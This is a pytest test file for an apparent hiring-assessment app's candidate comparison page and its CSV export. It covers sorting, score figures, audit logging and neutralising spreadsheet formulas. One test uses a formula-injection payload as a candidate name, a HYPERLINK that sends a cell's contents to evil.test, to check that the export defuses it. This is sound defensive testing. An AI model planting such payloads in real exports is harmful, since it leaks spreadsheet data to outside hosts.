"""The comparison of candidates: sorting, the figures, and a CSV export safe in a spreadsheet."""

import csv
import io

import pytest
from sqlalchemy import select

from assessor.extensions import db
from assessor.models import AttemptEvent, AttemptStatus, AuditEvent, Submission
from assessor.services.export import safe_cell
from tests.unit.rounds import Round


@pytest.fixture
def rnd(ctx):
    rnd = Round()
    ada = rnd.candidate("Ada Lovelace")
    rnd.graded(ada, 4.0)  # code 100%
    rnd.review(ada, rnd.viewer, 3, 3, "yes")  # design 60%: total 80%
    rnd.review(ada, rnd.second, 2, 4, "strong_yes")  # design mean 60%
    bob = rnd.candidate("Bob Builder")
    rnd.graded(bob, 1.0)  # code 25%
    rnd.review(bob, rnd.viewer, 4, 6, "no")  # design 100%: total 62.5% -> 63%
    cyd = rnd.candidate("Cyd Pending")
    rnd.graded(cyd, 2.0)  # code 50%, design pending review: no total
    rnd.candidate("Dee Working", status=AttemptStatus.STARTED)
    rnd.candidate("Eve Invited", status=AttemptStatus.INVITED)
    db.session.add_all(
        [
            AttemptEvent(attempt_id=bob.id, kind="paste", data={"size": 900}),
            AttemptEvent(attempt_id=bob.id, kind="focus_lost", data={}),
        ]
    )
    code = db.session.scalar(
        select(Submission).where(Submission.attempt_id == bob.id, Submission.item_id == rnd.code.id)
    )
    code.flags = [{"code": "uses_gc", "message": "m", "path": "solution.py", "line": 1}]
    db.session.commit()
    return rnd


CANDIDATES = ("Ada Lovelace", "Bob Builder", "Cyd Pending", "Dee Working")


def names(html):
    """Return the candidates listed on the page, in the order they appear."""
    return sorted((n for n in CANDIDATES if n in html), key=html.index)


def exported(client, rnd, query=""):
    response = client.get(f"/assessments/{rnd.assessment.id}/compare.csv{query}")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8-sig")  # the byte-order mark Excel needs, then UTF-8
    return list(csv.reader(io.StringIO(text)))


def test_compare_lists_who_started_sorted_by_total_blanks_last(client, auth, rnd):
    auth.login(rnd.owner.email)
    html = client.get(f"/assessments/{rnd.assessment.id}/compare").get_data(as_text=True)
    assert names(html) == ["Ada Lovelace", "Bob Builder", "Cyd Pending", "Dee Working"]
    assert "Eve Invited" not in html and "1 invited candidate" in html
    assert "80%" in html and "63%" in html and "pending review" in html
    assert 'aria-sort="descending"' in html


def test_sort_by_any_column_both_ways_through_links(client, auth, rnd):
    auth.login(rnd.owner.email)
    base = f"/assessments/{rnd.assessment.id}/compare"
    ascending = client.get(f"{base}?sort=total&dir=asc").get_data(as_text=True)
    assert names(ascending) == ["Bob Builder", "Ada Lovelace", "Cyd Pending", "Dee Working"]
    by_code = client.get(f"{base}?sort=item-{rnd.code.id}&dir=asc").get_data(as_text=True)
    assert names(by_code) == ["Bob Builder", "Cyd Pending", "Ada Lovelace", "Dee Working"]
    by_name = client.get(f"{base}?sort=candidate&dir=desc").get_data(as_text=True)
    assert names(by_name) == ["Dee Working", "Cyd Pending", "Bob Builder", "Ada Lovelace"]
    by_signals = client.get(f"{base}?sort=signals").get_data(as_text=True)
    assert names(by_signals)[0] == "Bob Builder"
    by_decision = client.get(f"{base}?sort=decision").get_data(as_text=True)
    assert names(by_decision)[:2] == ["Ada Lovelace", "Bob Builder"]
    assert "sort=total&amp;dir=asc" in client.get(base).get_data(as_text=True)
    unknown = client.get(f"{base}?sort=__class__&dir=sideways")
    assert unknown.status_code == 200 and names(unknown.get_data(as_text=True))[0] == "Ada Lovelace"
    assert "<script" not in client.get(base).get_data(as_text=True), "sorting needs no script"


def test_csv_holds_the_pages_figures(client, auth, rnd):
    auth.login(rnd.owner.email)
    header, *rows = exported(client, rnd)
    code, design = (f"{i.version.title} (%)" for i in rnd.assessment.items)
    assert header[:3] == ["Candidate", "Email", "Status"]
    assert header[3:5] == [code, design]
    table = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert list(table) == ["Ada Lovelace", "Bob Builder", "Cyd Pending", "Dee Working"]
    ada, bob, cyd = table["Ada Lovelace"], table["Bob Builder"], table["Cyd Pending"]
    assert (ada[code], ada[design], ada["Total (%)"]) == ("100", "60", "80")
    assert bob["Total (%)"] == "63", "62.5 rounds half up, as on the page"
    assert ada["Decisions"] == "yes; strong yes" and ada["Scorecards submitted"] == "2"
    assert ada["Email"] == "ada@candidates.test" and ada["Status"] == "decided"
    assert cyd["Total (%)"] == "" and cyd["Total note"] == "pending review"
    assert bob["Integrity signals"] == "3" and bob["Signal kinds"] == "paste; left page; uses_gc"
    assert ada["Time used (min)"] == "35" and ada["api-design (%)"] == "100"


def test_csv_export_is_audited(client, auth, rnd):
    auth.login(rnd.viewer.email)
    exported(client, rnd)
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "assessment.export"))
    assert event.actor_id == rnd.viewer.id and event.target_id == str(rnd.assessment.id)
    assert event.data["candidates"] == 4


def test_a_candidate_named_like_a_formula_stays_text_in_the_csv(client, auth, rnd):
    evil = rnd.candidate('=HYPERLINK("http://evil.test/?x="&A1,"Click me")')
    evil.candidate_email = "+1-555@evil.test"
    db.session.commit()
    auth.login(rnd.owner.email)
    rows = exported(client, rnd, "?sort=candidate&dir=asc")
    assert rows[1][:2] == [
        '\'=HYPERLINK("http://evil.test/?x="&A1,"Click me")',
        "'+1-555@evil.test",
    ]
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Ada", "Ada"),
        ("Zoë Ångström", "Zoë Ångström"),
        (-3, -3),
        (82, 82),
        (None, ""),
    ],
)
def test_safe_cell_neutralizes_formulas_but_keeps_numbers(value, cell):
    assert safe_cell(value) == cell


def test_accented_names_survive_the_csv(client, auth, rnd):
    rnd.candidate("Zoë Ångström")
    auth.login(rnd.owner.email)
    assert any(row[0] == "Zoë Ångström" for row in exported(client, rnd))
